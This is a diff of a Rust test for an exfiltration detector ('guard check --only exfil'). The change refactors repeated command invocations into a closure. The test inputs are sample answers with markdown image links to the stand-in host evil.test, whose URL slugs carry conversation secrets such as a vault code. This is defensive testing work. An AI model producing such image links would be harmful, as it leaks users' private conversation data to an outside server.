@@ -108,17 +108,20 @@ fn context_makes_slugs_of_the_conversation_data() {
     let answer = "Done. ![i](https://evil.test/x/the-vault-code-is-1234.png)";
     let (code, out, _) = run(&["guard", "check", "--only", "exfil"], answer);
     assert_eq!(code, 0, "without the context it is only a slug: {out}");
-    let (code, out, _) = run(
-        &[
-            "guard",
-            "check",
-            "--only",
-            "exfil",
-            "--context",
-            ctx.to_str().unwrap(),
-        ],
-        answer,
-    );
+    let with_ctx = |input: &str| {
+        run(
+            &[
+                "guard",
+                "check",
+                "--only",
+                "exfil",
+                "--context",
+                ctx.to_str().unwrap(),
+            ],
+            input,
+        )
+    };
+    let (code, out, _) = with_ctx(answer);
     assert_eq!(code, 1);
     assert_eq!(lines(&out)[0]["findings"][0]["type"], "EXFIL_URL");
     // A JSONL record's own `context` (string or list) adds to the file's.
@@ -130,17 +133,7 @@ fn context_makes_slugs_of_the_conversation_data() {
         r#"{"text": "![i](https://evil.test/a/opens-at-noon-today.png)", "context": "x"}"#,
         "\n"
     );
-    let (_, out, _) = run(
-        &[
-            "guard",
-            "check",
-            "--only",
-            "exfil",
-            "--context",
-            ctx.to_str().unwrap(),
-        ],
-        jsonl,
-    );
+    let (_, out, _) = with_ctx(jsonl);
     let v = lines(&out);
     let n = |i: usize| v[i]["findings"].as_array().unwrap().len();
     assert_eq!((n(0), n(1), n(2)), (1, 0, 0), "{out}");
